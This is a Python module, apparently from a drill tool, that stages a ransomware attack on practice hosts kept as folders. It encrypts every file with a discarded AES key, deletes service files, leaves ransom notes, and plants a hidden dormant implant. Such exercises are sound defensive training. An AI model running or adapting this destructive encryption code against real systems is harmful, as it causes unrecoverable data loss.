"""Attacks the practice fleet's hosts: encrypts their files for real, leaves a note and a marker, kills the services.

Never touches anything outside the hosts' folders, and keeps no key: only the fleet's backup brings the files back.
"""

from __future__ import annotations

import os
from pathlib import Path

from cryptography.hazmat.primitives.ciphers import Cipher
from cryptography.hazmat.primitives.ciphers.algorithms import AES
from cryptography.hazmat.primitives.ciphers.modes import CTR

from orchestrator.practice.fleet_file import FleetFile, Folders, write_whole

NOTE = "HOW-TO-RECOVER.txt"
MARKER = ".relance-practice-implant"
SUFFIX = ".locked"
DORMANT, DORMANT_BYTES = "data/.spool.dat", b"relance practice implant that sleeps\n"
STRUCK = "struck"


def strike(root: Path, fleet: FleetFile) -> int:
    """Attacks every host of the fleet in folder `root` that has no ransom note yet; returns how many.

    Once all were struck it never strikes again, so that it can be repeated after a kill at any moment.
    """
    folders = Folders(root)
    done = root / STRUCK
    if done.exists():
        return 0
    disks = [(host.id, folders.disk(host.id)) for host in fleet.hosts]
    waiting = [(host, disk) for host, disk in disks if not (disk / NOTE).exists()]
    for host, disk in waiting:
        encrypt(disk)
        plant(disk, host)
        write_whole(disk / NOTE, f"All files of {host} are encrypted. Practice only: ask your backup.\n".encode())
    write_whole(done, b"")
    return len(waiting)


def encrypt(disk: Path) -> None:
    """Kills the services and replaces each file by its encryption under a key that is thrown away at once."""
    for path in sorted(path for path in disk.rglob("*") if path.is_file()):
        if path.parent.name == "run":
            path.unlink()
        elif not path.name.endswith(SUFFIX) and path.name not in (NOTE, MARKER):
            _lock(path)


def plant(disk: Path, host: str) -> None:
    """Leaves the marker an inspection must find."""
    write_whole(disk / MARKER, f"relance practice implant {host}\n".encode())


def plant_dormant(disk: Path) -> None:
    """Leaves what no inspection knows to look for, until an indicator set names it."""
    write_whole(disk / DORMANT, DORMANT_BYTES)


def _lock(path: Path) -> None:
    lock = Cipher(AES(os.urandom(32)), CTR(os.urandom(16))).encryptor()
    path.write_bytes(lock.update(path.read_bytes()) + lock.finalize())
    path.rename(path.with_name(path.name + SUFFIX))
